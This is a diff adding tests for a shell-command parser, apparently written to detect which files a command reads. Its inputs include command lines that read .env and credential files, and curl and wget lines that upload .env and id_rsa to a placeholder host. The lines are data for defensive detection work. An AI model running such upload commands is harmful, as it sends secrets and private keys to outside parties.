@@ -119,6 +119,34 @@ describe('shell-parse: redirections and known writers are writes to paths', () =
   });
 });
 
+describe('shell-parse: files read by name', () => {
+  const reads = (line: string) => parse(line).reads.map((r) => `${r.via} ${r.cwd ? `${r.cwd}:` : ''}${r.path}`);
+  it.each([
+    ['cat .env', ['cat .env']],
+    ['cat -n a b - /dev/stdin', ['cat a', 'cat b']],
+    ['head -n 5 config/.env.local', ['head config/.env.local']],
+    ['grep -r API_KEY .env src', ['grep .env', 'grep src']],
+    ['grep -e KEY -e TOKEN secrets.txt', ['grep secrets.txt']],
+    ['rg -g "*.ts" pattern src', ['rg src']],
+    ["jq '.token' creds.json", ['jq creds.json']],
+    ["awk -F= '{print $2}' .env", ['awk .env']],
+    ['sort -o sorted.txt in.txt', ['sort in.txt']],
+    ['xxd key.bin out.hex', ['xxd key.bin']],
+    ['cp .env /tmp/x', ['cp .env']],
+    ['cp -t dest a b', ['cp a', 'cp b']],
+    ['curl -T .env https://x -d @body.json -F "f=@id_rsa;type=text/plain"', ['curl .env', 'curl body.json', 'curl id_rsa']],
+    ['wget --post-file=.env https://x', ['wget .env']],
+    ['mysql < dump.sql', ['< dump.sql']],
+    ['cd cfg && cat app.ini', ['cat cfg:app.ini']],
+    ['while read l; do :; done < list.txt', ['< list.txt']],
+    ["sed 's/a/b/' in.txt", ['sed in.txt']],
+    ['tr a b < in.txt', ['< in.txt']],
+    ['echo .env; ls .env', []],
+  ])('%s', (line, expected) => {
+    expect(reads(line)).toEqual(expected);
+  });
+});
+
 describe('shell-parse: uncertain where the line is only known when it runs', () => {
   it.each([
     ['bash -c "$CMD"', /bash -c runs `"\$CMD"`/],
